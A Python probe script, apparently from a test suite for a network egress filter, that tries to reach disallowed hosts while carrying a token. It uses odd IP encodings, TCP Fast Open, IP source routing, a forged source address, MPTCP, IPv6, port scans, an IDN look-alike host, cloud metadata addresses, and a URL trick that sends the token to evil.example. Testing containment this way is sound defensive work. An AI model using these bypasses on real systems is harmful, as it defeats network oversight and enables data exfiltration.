#!/usr/bin/env python3
"""Attempts by address and name: what a connection is made to. See common.py."""
import socket
import struct
import urllib.error
import urllib.request

from common import ALLOWED, PATIENCE, connect, main, request, talk

OUTSIDE = "203.0.113.80"
FASTOPEN, OPTIONS, FREEBIND, MPTCP = 0x20000000, 4, 15, 262


def fetch(host, port, token):
    return talk(connect(host, port), request(ALLOWED, token))


def odd_bases(token):
    """203.0.113.80 as a number, in octal, in hexadecimal and with parts left out."""
    return b"".join(fetch(text, 80, token) for text in ("3405803856", "0313.0.0161.0120", "0xcb007150", "203.0.29008"))


def fast_open(token, host, port):
    """The first bytes ride in the SYN."""
    connection = socket.socket()
    connection.settimeout(PATIENCE)
    connection.sendto(request(ALLOWED, token), FASTOPEN, (host, int(port)))
    return talk(connection)


def userinfo(token):
    try:
        with urllib.request.urlopen(f"http://{ALLOWED}@evil.example/{token.decode()}", timeout=2) as reply:
            return reply.read()
    except (urllib.error.URLError, ConnectionError):
        return talk(connect("evil.example", 80), b"GET http://%s@evil.example/%s HTTP/1.1\r\n\r\n"
                    % (ALLOWED.encode(), token))


def metadata(token):
    for host in "169.254.169.254", "100.100.100.200", "168.63.129.16", "metadata.google.internal":
        fetch(host, 80, token)


def options(token, name):
    """IP options, of which a source route would lead by an allowed host's address to one that is not allowed."""
    hop = socket.inet_aton(socket.gethostbyname(ALLOWED))
    connection = socket.socket()
    connection.settimeout(PATIENCE)
    connection.setsockopt(socket.IPPROTO_IP, OPTIONS, {
        "source-route": struct.pack("BBB", 131, 7, 4) + hop + b"\0",
        "record-route": struct.pack("BBB", 7, 7, 4) + bytes(5),
        "timestamps": struct.pack("BBBB", 68, 8, 5, 0) + bytes(4),
        "padding": b"\1\1\1\1",
    }[name])
    connection.connect((OUTSIDE, 80))
    return talk(connection, request(ALLOWED, token))


def forged(token, source):
    connection = socket.socket()
    connection.settimeout(PATIENCE)
    connection.setsockopt(socket.IPPROTO_IP, FREEBIND, 1)
    connection.bind((source, 0))
    connection.connect((OUTSIDE, 80))
    return talk(connection, request(ALLOWED, token))


def multipath(token):
    connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM, MPTCP)
    connection.settimeout(PATIENCE)
    connection.connect((OUTSIDE, 80))
    return talk(connection, request(ALLOWED, token))


def ipv6(token, address):
    return talk(connect(address, 80, socket.AF_INET6), request(ALLOWED, token))


def scan(token):
    """More destinations than a call's share of the sinkhole."""
    for port in range(7001, 7041):
        try:
            fetch(OUTSIDE, port, token)
        except ConnectionError:
            pass  # reset before the connection was noticed here


def bytes_over(token):
    """An allowed raw connection with a limit of 1,000 bytes."""
    connection = connect("small.example", 9000)
    connection.sendall(b"x" * 900)
    connection.recv(5)
    return talk(connection, token * 100)


main({
    "to": lambda token, host, port: fetch(host, int(port), token),
    "odd-bases": odd_bases,
    "fast-open": fast_open,
    "userinfo": userinfo,
    "look-alike": lambda token: fetch("mirr\u043er.example".encode("idna").decode(), 80, token),
    "metadata": metadata,
    "options": options,
    "forged": forged,
    "multipath": multipath,
    "ipv6": ipv6,
    "scan": scan,
    "bytes-over": bytes_over,
})
